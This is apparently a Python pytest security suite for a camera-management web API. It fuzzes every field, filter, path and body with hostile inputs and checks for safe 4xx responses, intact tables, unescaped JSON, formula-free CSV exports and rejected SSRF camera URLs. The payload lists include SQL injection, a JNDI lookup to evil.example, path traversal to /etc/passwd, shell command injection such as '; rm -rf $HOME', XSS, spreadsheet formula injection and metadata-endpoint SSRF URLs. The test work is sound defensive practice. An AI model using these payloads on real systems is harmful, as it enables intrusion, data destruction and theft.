"""Values that people with bad intentions send, put into every field, filter and path that the API describes.

The rule is one: an answer in the four hundreds or a plain answer, never a fault of ours, and the things that are there
stay as they were.
"""

from __future__ import annotations

import csv
import io
import itertools
import json
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

from fastapi import FastAPI
from sqlalchemy import text
from tests.factories.accounts import Browser, browser
from tests.security.described import UNSAFE, Door, described_path, doors, json_schema, resolved

from beadle.platform.clock import FixedClock
from beadle.platform.db import Database

WORDS = [
    "a\0b",
    "\ud800",
    "a\r\nSet-Cookie: beadle_session=planted",
    "x" * 100_000,
    "'; DROP TABLE account; --",
    "1 OR 1=1",
    "%27%20OR%201%3D1",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "../../../../etc/passwd",
    "..\\..\\secrets.toml",
    "; touch pwned; `id` $(id) | id",
    "<script>alert(1)</script>",
    "\u202egpj.exe",
    "🎪" * 50,
    "",
]
NUMBERS = [2**31, 2**63, 2**64, -(2**63) - 1, 10**400, -1, 0, 0.1, 1e308, float("inf"), float("nan"), True, "12"]
SHAPES: list[Any] = [None, [], {}, [[]], {"$gt": ""}, {"__proto__": {"admin": True}}, [None] * 1000]
JSON = {"Content-Type": "application/json"}


def hostile_for(schema: dict[str, Any], description: dict[str, Any]) -> list[Any]:
    """What to try in a field: everything of another shape, and the worst of its own."""
    kinds = {resolved(each, description).get("type") for each in schema.get("anyOf", [schema])}
    if kinds & {"integer", "number"}:
        return [*NUMBERS, *SHAPES]
    return [*WORDS, *SHAPES, 2**63]


def bodies(app: FastAPI) -> Iterator[tuple[Door, str, dict[str, Any]]]:
    """Every body of every route with one hostile value in one field."""
    description = app.openapi()
    turn = itertools.count()
    for door in doors(app, *UNSAFE):
        schema = json_schema(description["paths"][described_path(door.row.path)][door.method.lower()], description)
        if schema is None or door.body is None:
            continue
        for name, field in schema.get("properties", {}).items():
            # An eighth of them for each field, another for the next: every value meets many fields.
            for value in hostile_for(field, description)[next(turn) % 8 :: 8]:
                yield door, name, door.body | {name: value}


def as_sent(value: Any) -> bytes:
    """JSON as a hostile program writes it: lone surrogates, NaN and endless numbers included."""
    return json.dumps(value).encode("ascii")


async def unhurt(database: Database) -> None:
    """The tables that the words above name are still there."""
    async with database.session() as session:
        assert (await session.scalar(text("SELECT count(*) FROM account"))) >= 1


async def test_no_field_of_any_body_breaks_anything(
    app: FastAPI, admin: Browser, database: Database, clock: FixedClock
) -> None:
    tried = 0
    for door, name, body in bodies(app):
        clock.advance(61)  # so that wrong passwords are not slowed down
        answer = await admin.ask(door.method, door.path, params=door.query, content=as_sent(body), headers=JSON)
        assert answer.status_code < 500, (door.name, name, str(body[name])[:80], answer.text)
        if answer.status_code == 401:
            assert (await admin.sign_in("administrator")).status_code == 200, door.name
        tried += 1
    assert tried > 150
    await unhurt(database)


FILTERS = [*WORDS[4:8], "a\0b", str(2**63), str(10**400), "-1", "NaN", "(SELECT 1)", "x" * 5000, "{}"]


async def test_no_filter_or_sort_breaks_anything(app: FastAPI, admin: Browser, database: Database) -> None:
    tried = 0
    for door in doors(app, "GET"):
        operation = app.openapi()["paths"][described_path(door.row.path)]["get"]
        names = [each["name"] for each in operation.get("parameters", ()) if each["in"] == "query"]
        for name in [*names, "sort", "order_by", "limit", "before"]:
            for value in FILTERS[tried % 4 :: 4]:
                answer = await admin.ask("GET", door.path, params=door.query | {name: value})
                assert answer.status_code < 500, (door.name, name, value[:80], answer.text)
                assert "SELECT" not in answer.text or value in answer.text
                tried += 1
    assert tried > 250
    await unhurt(database)


async def test_no_id_in_a_path_breaks_anything(app: FastAPI, admin: Browser) -> None:
    nasty = ["..%2f..%2fetc%2fpasswd", "%00", "%ff%fe", "%F0%9F%8E%AA", "' OR 1=1 --", "9" * 400, "a" * 8000]
    for door in doors(app):
        if "{" not in door.row.path:
            continue
        at = [index for index, part in enumerate(door.row.path.split("/")) if part.startswith("{")]
        for place in at:
            for word in nasty:
                parts = door.path.split("/")
                parts[place] = word if "%" in word else quote(word, safe=".")
                answer = await admin.ask(door.method, "/".join(parts), params=door.query, json=door.body)
                assert 400 <= answer.status_code < 500, (door.name, word[:40], answer.status_code)


HARDLY_JSON = [
    b"[" * 100_000,
    b'{"a":' * 100_000,
    b'{"name": ' + b"9" * 5000 + b"}",
    b"\xff\xfe{\x00}\x00",
    b"\xef\xbb\xbf{}",
    b'{"name": "\xff"}',
    b"{'name': 1}",
    b'{"name": "x"} trailing',
    b"",
    b"null",
    b'"text"',
    b"-",
    b'{"\\u0000": 1}',
]


async def test_bodies_that_are_hardly_json(app: FastAPI, admin: Browser) -> None:
    taking = [door for door in doors(app, *UNSAFE) if door.body is not None and "{" not in door.row.path]
    for number, door in enumerate(taking):
        for content in HARDLY_JSON[number % 3 :: 3]:
            answer = await admin.ask(door.method, door.path, content=content, headers=JSON)
            assert 400 <= answer.status_code < 500, (door.name, content[:20], answer.status_code)


MARKUP = "<img src=x onerror=alert(1)>\"'</script>"
HEADERS = {"content-type": "application/json", "x-content-type-options": "nosniff"}


async def things_named(admin: Browser, name: str) -> None:
    """A site, a camera, a user, a layout and a hold with that name or text."""
    site = await admin.ask("POST", "/api/sites", json={"name": name, "address": name})
    assert site.status_code == 201, site.text
    camera = {"number": 7, "name": name, "site_id": site.json()["id"], "owner": name, "purpose": name}
    added = await admin.ask("POST", "/api/cameras", json=camera)
    assert added.status_code == 201, added.text
    layout = {"name": name, "shared": True, "columns": 1, "tiles": [added.json()["id"]]}
    assert (await admin.ask("POST", "/api/video/layouts", json=layout)).status_code == 201
    hold = {"cameras": [added.json()["id"]], "from": "2026-06-01T11:00:00Z", "reason": name, "reference": name}
    assert (await admin.ask("POST", "/api/video/holds", json=hold)).status_code == 201


async def test_markup_is_stored_as_text_and_given_as_json(app: FastAPI, admin: Browser) -> None:
    """React shows it as text; here: no answer could be taken for a page, and nothing is changed or doubly escaped."""
    await things_named(admin, MARKUP)
    shown = 0
    for path in ("/api/sites", "/api/cameras", "/api/video/layouts", "/api/video/holds", "/api/audit"):
        answer = await admin.ask("GET", path)
        assert answer.status_code == 200, path
        assert {name: answer.headers[name] for name in HEADERS} == HEADERS, path
        assert "default-src 'self'" in answer.headers["content-security-policy"], path
        shown += json.dumps(MARKUP) in answer.text or "&lt;" in answer.text
        assert "&lt;" not in answer.text, f"{path} is escaped for HTML, which it is not"
    assert shown >= 4


FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "  =1+1",
    "'=1",
    '=HYPERLINK("http://evil.example")',
]


async def test_no_csv_that_we_give_out_holds_a_formula(app: FastAPI, admin: Browser) -> None:
    for number, formula in enumerate(FORMULAS, 100):
        name = formula.strip() or formula
        camera = {"number": number, "name": name, "owner": name, "purpose": formula, "funding_line": name}
        assert (await admin.ask("POST", "/api/cameras", json=camera)).status_code == 201
        await admin.ask("POST", "/api/sites", json={"name": f"{name} "})
        async with browser(app) as stranger:
            await stranger.sign_in(name, "not the password")
    # Those of one thing (an import's refused rows, a search's results) are asked for where such a thing is made.
    sheets = [door for door in doors(app, "GET") if door.row.path.endswith(".csv") and "{" not in door.row.path]
    assert sheets
    for door in sheets:
        answer = await admin.ask("GET", door.path, params=door.query)
        assert answer.status_code == 200, door.name
        assert answer.headers["content-type"].startswith("text/csv"), door.name
        assert answer.headers["content-disposition"].startswith("attachment"), door.name
        for row in csv.reader(io.StringIO(answer.text)):
            for cell in row:
                assert not runs(cell), (door.name, cell)


def runs(cell: str) -> bool:
    """Whether a spreadsheet would take the cell for a formula; plain numbers are none."""
    try:
        float(cell)
    except ValueError:
        return cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\n", "\0"))
    return False


async def test_a_camera_named_like_a_command_or_a_path_names_no_file(app: FastAPI, admin: Browser) -> None:
    for number, name in enumerate(
        ("../../../etc/cron.d/x", "; rm -rf $HOME", "$(id)`id`", "a/b\\c", "-rf", "CON", "..."), 1
    ):
        made = await admin.ask("POST", "/api/cameras", json={"number": number, "name": name})
        assert made.status_code == 201, made.text
        key = made.json()["key"]
        assert key.isascii(), key
        assert all(letter.isalnum() or letter == "-" for letter in key), key
        assert key[0].isdigit(), key


NO_CAMERA = [
    "http://127.0.0.1/",
    "https://169.254.169.254/latest/meta-data/",
    "file:///etc/passwd",
    "gopher://127.0.0.1:5432/_x",
    "exec:id",
    "rtsp+exec://x",
    "dict://127.0.0.1:11211/stats",
    "ftp://10.0.0.1/",
    "rtsp://",
    "rtsp:///etc/passwd",
    "rtsp://10.0.0.1:99999/",
    "rtsp://10.0.0.1:5432\r\nX: y/",
    "rtsp://[fe80::1%25eth0]/",
    "rtsp://10.0.0.1 /",
    "//10.0.0.1/",
    "rtsp://0x7f000001/",
    "rtsp://2130706433/",
    "rtsp://127.1/",
    "javascript:alert(1)",
    "concat:/etc/passwd|/etc/shadow",
]


async def test_a_cameras_address_makes_us_call_nothing_but_a_camera(admin: Browser) -> None:
    """Cameras live on private networks, so hosts cannot be forbidden; everything that is no RTSP to a host is."""
    for url in NO_CAMERA:
        wish = {"number": 5, "name": "x", "streams": {"main": {"url": url}}}
        for method, path, body in (("POST", "/api/cameras", wish), ("POST", "/api/video/probe", {"url": url})):
            answer = await admin.ask(method, path, json=body)
            assert answer.status_code == 422, (path, url, answer.text)
